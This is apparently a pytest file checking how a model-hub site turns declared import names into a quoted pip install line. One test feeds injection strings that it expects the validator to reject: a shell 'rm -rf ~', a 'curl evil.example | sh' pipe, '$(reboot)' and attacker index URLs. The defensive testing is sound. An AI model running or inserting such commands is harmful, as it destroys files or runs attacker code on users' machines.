"""From a hub's `dependencies` (import names) to the pip line a model page and its notebook show."""

from __future__ import annotations

import pytest

from generator.catalogue import Catalogue
from generator.config import load_config
from generator.render.requirements import DISTRIBUTIONS, distribution, pip_install_line, requirements
from generator.render.view import model_view
from tests.generator.hubrepos import PROJECT_ROOT

SITE = "https://pinhub.github.io/pinhub/"
PREFIX = f"pip install --extra-index-url {SITE}simple/ pinhub"

# What the catalogue's hubs declare in `dependencies` (or import at load without declaring), as their
# hubconf.py files show, and the distribution pip must install for each.
CATALOGUE_HUBS = {
    "HybridNets": (
        ["efficientnet_pytorch", "pretrainedmodels", "PyYAML", "timm", "torch", "torchvision"],
        ["efficientnet-pytorch", "pretrainedmodels", "PyYAML", "timm", "torchvision"],
    ),
    "PyTorch-Transformers": (
        ["torch", "numpy", "tokenizers", "requests", "regex", "sentencepiece", "importlib_metadata", "huggingface_hub"],
        ["numpy", "tokenizers", "requests", "regex", "sentencepiece", "importlib-metadata", "huggingface-hub"],
    ),
    "fairseq": (
        ["dataclasses", "hydra", "numpy", "omegaconf", "regex", "requests", "torch"],
        ["hydra-core", "numpy", "omegaconf", "regex", "requests"],
    ),
    "YOLOv5": (["torch", "yaml"], ["pyyaml"]),
    "YOLOP": (["torch", "cv2", "prefetch_generator", "yacs"], ["opencv-python", "prefetch-generator", "yacs"]),
    "MiDaS": (["torch", "cv2", "timm"], ["opencv-python", "timm"]),
    "NVIDIA ConvNets helpers": (["PIL", "validators", "requests"], ["pillow", "validators", "requests"]),
    "NVIDIA SSD helpers": (["numpy", "skimage"], ["numpy", "scikit-image"]),
    "MEAL V2": (["timm", "torch"], ["timm"]),
    "Silero VAD": (["torch", "torchaudio"], ["torchaudio"]),
    "Open-Unmix": (["torch", "numpy"], ["numpy"]),
    "PGAN and DCGAN": (
        ["torch", "torchvision", "visdom", "numpy", "h5py", "scipy"],
        ["torchvision", "visdom", "numpy", "h5py", "scipy"],
    ),
}


@pytest.mark.parametrize(("declared", "expected"), list(CATALOGUE_HUBS.values()), ids=list(CATALOGUE_HUBS))
def test_the_catalogues_hubs_get_the_distributions_pip_needs(declared: list[str], expected: list[str]) -> None:
    wanted, rejected = requirements(declared)
    assert wanted == expected
    assert rejected == []


@pytest.mark.parametrize(
    ("import_name", "dist"),
    [
        ("cv2", "opencv-python"),
        ("PIL", "pillow"),
        ("sklearn", "scikit-learn"),
        ("yaml", "pyyaml"),
        ("skimage", "scikit-image"),
        ("hydra", "hydra-core"),
        ("google.protobuf", "protobuf"),
        ("numpy", "numpy"),  # the same name on both sides
    ],
)
def test_import_names_map_to_distributions(import_name: str, dist: str) -> None:
    assert distribution(import_name) == dist


def test_every_mapping_names_a_plain_distribution_that_maps_to_itself() -> None:
    for import_name, dist in DISTRIBUTIONS.items():
        assert requirements([dist]) == ([dist], []), f"{import_name} → {dist} is not a plain requirement"
        assert distribution(dist) == dist, f"{import_name} → {dist} → {distribution(dist)}: mappings must not chain"


def test_version_specifiers_and_extras_survive_the_mapping() -> None:
    wanted, _ = requirements(["PIL>=9.0", "cv2 ==4.8.1.78", "hydra[joblib]~=1.3", "numpy>=1.24,<3"])
    assert wanted == ["pillow>=9.0", "opencv-python ==4.8.1.78", "hydra-core[joblib]~=1.3", "numpy>=1.24,<3"]


def test_torch_pinhub_and_the_standard_library_are_not_installed() -> None:
    wanted, rejected = requirements(["torch", "torch>=2", "pinhub", "dataclasses", "json", "xml.etree", "os"])
    assert wanted == []
    assert rejected == []


def test_duplicates_are_listed_once_in_first_seen_order() -> None:
    wanted, _ = requirements(["yaml", "numpy", "pyyaml", "yaml", "numpy"])
    assert wanted == ["pyyaml", "numpy"]


@pytest.mark.parametrize(
    "hostile",
    [
        "evil`rm -rf ~`",
        "numpy; curl https://evil.example | sh",
        "--index-url https://evil.example/simple",
        "-e git+https://evil.example/x.git",
        "$(reboot)",
        "pkg @ https://evil.example/pkg.whl",
    ],
)
def test_anything_but_a_plain_requirement_is_rejected(hostile: str) -> None:
    wanted, rejected = requirements([hostile, "numpy"])
    assert wanted == ["numpy"]
    assert rejected == [hostile]
    assert pip_install_line(SITE, [hostile]) == PREFIX


def test_the_pip_line_installs_pinhub_from_the_site_and_quotes_specifiers() -> None:
    line = pip_install_line(SITE, ["torch", "cv2", "numpy>=1.24", "hydra[joblib]", "PIL"])
    assert line == f'{PREFIX} opencv-python "numpy>=1.24" "hydra-core[joblib]" pillow'


def test_a_hub_without_dependencies_installs_pinhub_alone() -> None:
    assert pip_install_line(SITE, []) == PREFIX
    assert pip_install_line(SITE, ["torch"]) == PREFIX


def test_the_catalogue_can_add_dependencies_a_hub_forgot_to_declare() -> None:
    """An entry's own `dependencies` join the hub's declared ones on the page's install line."""
    catalogue = Catalogue.model_validate(
        {
            "categories": [{"id": "vision", "title": "Vision"}],
            "models": [
                {
                    "id": "hub",
                    "title": "Hub",
                    "summary": "s",
                    "repo": "owner/name",
                    "awaiting_pin": "not yet",
                    "category": "vision",
                    "dependencies": ["cv2", "timm>=0.9"],
                }
            ],
        }
    )
    view = model_view(catalogue.models[0], None, catalogue, load_config(PROJECT_ROOT))
    assert view.pip_line.endswith('-py3-none-any.whl opencv-python "timm>=0.9"')


def test_pinhub_comes_from_the_wheel_the_site_ships_when_there_is_one() -> None:
    """An index, even an extra one, would let pip take another project called pinhub from PyPI."""
    line = pip_install_line(SITE, ["torch", "PIL"], "1.2.3")
    assert line == f"pip install {SITE}simple/pinhub/pinhub-1.2.3-py3-none-any.whl pillow"
